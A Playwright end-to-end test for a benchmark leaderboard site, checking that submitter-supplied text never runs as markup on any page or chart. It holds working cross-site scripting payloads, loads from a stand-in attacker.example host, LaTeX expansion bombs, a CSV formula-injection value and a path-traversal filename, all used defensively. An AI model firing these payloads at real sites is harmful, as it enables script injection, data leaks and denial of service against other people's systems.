import type { Page } from "@playwright/test";
import { generateBenchmark } from "@/catalog/bundled";
import { expect, test } from "@/tests/support/e2e";
import type { RunningPlatform } from "@/tests/support/platform";

/** Every one of these sets a mark, loads something from elsewhere or adds an element where text is taken for markup. */
const MARKUP = [
  `<img src="https://attacker.example/i.png" onerror="window.hostile=1">`,
  `"><script>window.hostile=1</script>`,
  `'><svg onload=window.hostile=1><animate onbegin=window.hostile=1></svg>`,
  `</script><script src="https://attacker.example/s.js"></script>`,
  `</style><style>@import "https://attacker.example/c.css";</style>`,
  `</textarea></title></table><iframe src="javascript:parent.hostile=1"></iframe>`,
  `<a href="javascript:window.hostile=1" id=hostile>press</a> [press](javascript:window.hostile=1)`,
  `![image](https://attacker.example/m.png) <base href="https://attacker.example/">`,
  `<meta http-equiv=refresh content="0;url=https://attacker.example/"> <form action=//attacker.example><button>`,
  "{{constructor.constructor('window.hostile=1')()}} #{window.hostile=1} \u2028 \u202e <!-- <!--><img>",
];
const FORMULAS = [
  "\\href{javascript:window.hostile=1}{x}",
  "\\url{javascript:window.hostile=1}",
  "\\includegraphics[width=9em]{https://attacker.example/k.png}",
  "\\htmlData{x=1}{y} \\htmlClass{a}{b} \\htmlId{hostile}{c} \\htmlStyle{position:fixed;inset:0;background:url(https://attacker.example/h)}{d}",
  "\\rule{1000000em}{1000000em} \\kern{999999em} \\raisebox{99999em}{x}",
  "\\def\\a{\\b\\b\\b}\\def\\b{\\c\\c\\c}\\def\\c{\\d\\d\\d}\\def\\d{\\e\\e\\e}\\def\\e{\\f\\f\\f}\\def\\f{xxx}\\a\\a\\a\\a",
  "\\def\\loop{\\loop\\loop}\\loop",
  "\\text{</annotation></math><img src=x onerror=window.hostile=1>}",
  `${"\\sqrt{".repeat(300)}x${"}".repeat(300)}`,
  `${"{".repeat(900)}x${"}".repeat(900)}`,
  `\\begin{array}{${"c".repeat(900)}} x \\end{array}`,
  "\\color{red;background:url(https://attacker.example/c)}x",
];
const NAME = `=1+1<img src=x onerror=window.hostile=1>"'><script>window.hostile=1</script>`;

const { problems } = generateBenchmark();
const TRACES = problems.map(({ id, gold }, index) => {
  const formula = FORMULAS[index % FORMULAS.length];
  const markup = MARKUP[index % MARKUP.length];
  const response = `${markup}\n$${formula}$ and $$${formula}$$ and \\boxed{${index % 2 === 0 ? gold : `\\text{${markup}}`}}`;
  return JSON.stringify({
    problem_id: id,
    sample: 0,
    response,
    reasoning: `<think>${MARKUP.join("\n")}</think>`,
    finish_reason: "stop",
    completion_tokens: 9,
    calls: [
      {
        role: NAME.slice(0, 60),
        prompt: [{ role: "user", content: MARKUP.join() }],
        response: `${markup} $${formula}$`,
      },
    ],
  });
});
/** Lines that are refused, with a reason that repeats a part of them. */
const BAD = [
  JSON.stringify({ problem_id: MARKUP[1]?.replaceAll(" ", ""), sample: 0, response: "x" }),
  `<script>window.hostile=1</script>`,
  JSON.stringify({
    question: MARKUP[0],
    problem_id: "<svg/onload=window.hostile=1>",
    sample: 0,
    response: "x",
  }),
];

async function api(
  platform: RunningPlatform,
  method: string,
  path: string,
  key: string,
  body?: string | object,
) {
  const raw = typeof body === "string";
  const answer = await fetch(`${platform.origin}/api/v1${path}`, {
    method,
    headers: {
      authorization: `Bearer ${key}`,
      "content-type": raw ? "application/octet-stream" : "application/json",
    },
    ...(body === undefined ? {} : { body: raw ? body : JSON.stringify(body) }),
  });
  expect(answer.ok, `${method} ${path}: ${answer.status}`).toBe(true);
  return answer.json();
}

async function submitted(platform: RunningPlatform, key: string, lines: readonly string[], state: string) {
  const query = new URLSearchParams({ benchmark: "bundled", model: NAME, filename: `../../${NAME}.jsonl` });
  const { submissionId } = await api(platform, "POST", `/submissions?${query}`, key, lines.join("\n"));
  const read = () => api(platform, "GET", `/submissions/${submissionId}`, key);
  await expect.poll(async () => (await read()).state, { timeout: 120_000 }).toBe(state);
  const view = await read();
  return {
    submissionId,
    runId: view.runs[0]?.runId,
  };
}

/** Elements and attributes that only taken-over markup could have put there; scripts of the site carry a source or a nonce. */
const injected = (page: Page) =>
  page.evaluate(() => {
    const ran = Reflect.get(window, "hostile") !== undefined ? ["a script ran"] : [];
    const odd = [...document.querySelectorAll("*")].filter((element) => {
      const names = element.getAttributeNames();
      if (names.some((name) => name.startsWith("on"))) return true;
      const target =
        element.getAttribute("href") ?? element.getAttribute("src") ?? element.getAttribute("action") ?? "";
      return (
        /^\s*javascript:|attacker\.example/i.test(target) ||
        /^(IFRAME|BASE|OBJECT|EMBED)$/.test(element.tagName) ||
        element.id === "hostile"
      );
    });
    return [...ran, ...odd.map((element) => element.outerHTML.slice(0, 120))];
  });

test("markup in everything that a submitter writes stays text on every page", async ({ page, platform }) => {
  test.setTimeout(300_000);
  const admin = platform.adminKey;
  const account = await api(platform, "POST", "/accounts", admin, { name: NAME, teamName: NAME });
  const { key } = await api(platform, "POST", "/keys", admin, { name: NAME, accountId: account.accountId });
  const first = await submitted(platform, key, TRACES, "published");
  const second = await submitted(platform, key, TRACES, "published");
  const refused = await submitted(platform, key, [...TRACES, ...BAD], "needs_decision");

  const elsewhere: string[] = [];
  await page.route(
    (url) => url.origin !== platform.origin && url.protocol.startsWith("http"),
    (route) => {
      elsewhere.push(route.request().url());
      return route.abort();
    },
  );
  page.on("dialog", (dialog) => {
    elsewhere.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  const { url } = await api(platform, "POST", "/sign-in-links", admin, {});
  await page.goto(url);

  const sample = (index: number) => `/runs/${first.runId}/samples/${problems[index]?.id}/0`;
  const text = encodeURIComponent(`${MARKUP.join(" ")} $${FORMULAS[0]}$`.slice(0, 900));
  const models: { items: { slug: string }[] } = await (
    await fetch(`${platform.origin}/api/v1/models`)
  ).json();
  const hostileSlug = models.items.find((item) => item.slug.includes("hostile"))?.slug ?? "";
  expect(hostileSlug).not.toBe("");
  const dynamic = [
    ...[
      `/runs/${first.runId}`,
      ...problems.slice(0, 12).map((_, index) => sample(index)),
      `/compare?a=${first.runId}&b=${second.runId}`,
    ],
    ...[
      `/submissions/${refused.submissionId}`,
      `/submissions/${first.submissionId}`,
      `/submissions`,
      `/submit?url=${text}&model=${text}`,
    ],
    ...[
      `/verifier?output=${text}&gold=${text}`,
      `/models/${hostileSlug}`,
      "/operator",
      `/search?q=${encodeURIComponent("img")}`,
      `/search?q=${text}`,
    ],
    `${sample(0)}?find=${text}`,
  ];
  const boards = [
    "/",
    "/benchmarks/bundled",
    "/benchmarks/bundled?view=lift",
    `/benchmarks/bundled?model=${text}`,
  ];
  const charts = new Set<string>();
  const problemsFound: string[] = [];
  let shown = 0;
  for (const address of [...dynamic, ...boards, "/methods/direct"]) {
    const started = Date.now();
    const answer = await page.goto(address, { waitUntil: "load" });
    const policy = answer?.headers()["content-security-policy"] ?? "";
    const script = dynamic.includes(address)
      ? /script-src 'self' 'nonce-[^']+'$/
      : boards.includes(address)
        ? /script-src 'self'$/
        : /script-src 'self' 'unsafe-inline'$/;
    if (answer?.status() !== 200) problemsFound.push(`${address}: ${answer?.status()}`);
    if (!script.test(policy)) problemsFound.push(`${address}: ${policy}`);
    if (!/object-src 'none'.*base-uri 'none'.*connect-src 'self'.*form-action 'self'/.test(policy))
      problemsFound.push(`${address}: ${policy}`);
    for (const element of await injected(page)) problemsFound.push(`${address}: ${element}`);
    if (Date.now() - started > 30_000) problemsFound.push(`${address}: ${Date.now() - started} ms`);
    if ((await page.locator("body").innerText()).includes("onerror=")) shown++;
    for (const link of await page.locator('[href^="/charts/"], [src^="/charts/"]').all())
      charts.add((await link.getAttribute("href")) ?? (await link.getAttribute("src")) ?? "");
  }
  expect(problemsFound).toEqual([]);
  expect(elsewhere).toEqual([]);
  // The markup was there to be read, and charts to be opened.
  expect(shown).toBeGreaterThan(10);
  expect(charts.size).toBeGreaterThan(3);

  for (const address of [...charts].filter((link) => link.includes(".svg"))) {
    const answer = await page.goto(address);
    expect(answer?.headers()["content-security-policy"], address).toContain("default-src 'none'");
    expect(await injected(page), address).toEqual([]);
  }
  const csvs = [...[...charts].filter((link) => link.includes(".csv")), "/api/v1/leaderboards/bundled.csv"];
  for (const address of csvs) {
    const csv = await (await fetch(platform.origin + address)).text();
    expect(
      csv.split(/\r?\n/).filter((line) => /(^|,)"?[=+@]/.test(line)),
      address,
    ).toEqual([]);
  }
  expect(elsewhere).toEqual([]);

  // What the files of a hidden run would show is not there either.
  const query = new URLSearchParams({ benchmark: "bundled", model: "Hidden one", visibility: "private" });
  const hidden = await api(platform, "POST", `/submissions?${query}`, key, TRACES.join("\n"));
  await expect
    .poll(async () => (await api(platform, "GET", `/submissions/${hidden.submissionId}`, key)).state, {
      timeout: 120_000,
    })
    .toBe("published");
  const { runs } = await api(platform, "GET", `/submissions/${hidden.submissionId}`, key);
  const runId = runs[0]?.runId;
  for (const chart of [...charts].filter((link) => link.includes(first.runId)))
    expect((await fetch(platform.origin + chart.replace(first.runId, runId))).status, chart).toBe(404);
  for (const address of [
    `/runs/${runId}`,
    `/runs/${runId}/samples/${problems[0]?.id}/0`,
    "/models/hidden-one",
  ])
    expect((await fetch(platform.origin + address)).status, address).toBe(404);
  for (const address of [
    "/",
    "/benchmarks/bundled",
    "/benchmarks/bundled?view=lift",
    "/search?q=hidden",
    `/compare?a=${first.runId}&b=${runId}`,
  ])
    expect(await (await fetch(platform.origin + address)).text(), address).not.toContain("Hidden one");
});
